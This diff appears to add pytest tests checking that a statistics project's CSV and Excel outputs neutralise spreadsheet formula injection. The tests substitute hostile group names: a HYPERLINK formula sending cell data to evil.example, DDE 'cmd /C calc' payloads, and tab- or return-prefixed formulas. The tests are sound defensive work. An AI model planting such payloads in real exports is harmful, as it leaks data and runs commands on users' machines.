@@ -26,3 +26,74 @@ def test_tables_and_workbook(tmp_path):
     assert set(xl.loc[csv["suppressed"].to_numpy(), "Value"]) == {"[c]"}
     notes = list(wb["Notes"].iter_rows(values_only=True))
     assert any("suppressed [c]" in str(c) for row in notes for c in row)
+
+
+HOSTILE = {  # group names as an attacker (or an unlucky spreadsheet) might write them
+    "Black Caribbean": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+    "Indian": "+1+cmd|' /C calc'!A0",
+    "Pakistani": "-2+3",
+    "Chinese": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "Bangladeshi": "\t=1+2",
+    "Arab": "\r=1+3",
+    "Roma": "=1+1, said the group",
+}
+
+
+def hostile_results():
+    obs = ev.demo.observations()
+    obs["group"] = obs["group"].replace(HOSTILE)
+    obs["area"] = "=AREA()"
+    scheme = ev.Scheme.demo()
+    scheme.name = "=TITLE()"
+    return build(scheme, obs, ev.demo.indicators())
+
+
+def test_hostile_text_never_becomes_a_formula(tmp_path):
+    r = hostile_results()
+    path = outputs.write_excel(r, tmp_path / "tables.xlsx")
+    assert outputs.formula_cells(path) == []
+    wb = openpyxl.load_workbook(path)
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert not [c for c in cells if c.hyperlink and "evil" in str(c.hyperlink.target)]
+    text = {c.value for c in cells if isinstance(c.value, str)}
+    assert "-2+3" in text and any(t.startswith("=HYPERLINK") for t in text)  # kept, as text
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_hostile_text_is_inert_in_csv(tmp_path):
+    import csv
+
+    r = hostile_results()
+    outputs.write_csv_json(r, tmp_path)
+    for f in tmp_path.glob("*.csv"):
+        with f.open(newline="", encoding="utf-8") as fh:
+            for row in csv.reader(fh):
+                for cell in row:
+                    assert not cell.startswith(outputs.FORMULA_START) or _is_number(cell), (f.name, cell)
+    gaps = pd.read_csv(tmp_path / "gaps.csv")
+    assert "'-2+3" in set(gaps["group"]) and "'=1+1, said the group" in set(gaps["group"])
+    assert (gaps["gap"].dropna() < 0).any()  # numbers stay numbers: a negative gap is not prefixed
+
+
+def test_older_gptables_without_workbook_options_still_writes_no_formula(tmp_path, monkeypatch):
+    import gptables
+
+    real = gptables.write_workbook
+
+    def old_signature(filename, sheets, cover=None, notes_table=None, contentsheet_options=None):
+        return real(filename, sheets, cover=cover, notes_table=notes_table, contentsheet_options=contentsheet_options)
+
+    monkeypatch.setattr(gptables, "write_workbook", old_signature)
+    path = outputs.write_excel(hostile_results(), tmp_path / "tables.xlsx")
+    assert outputs.formula_cells(path) == []
+    wb = openpyxl.load_workbook(path)
+    text = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
+    assert "'-2+3" in text
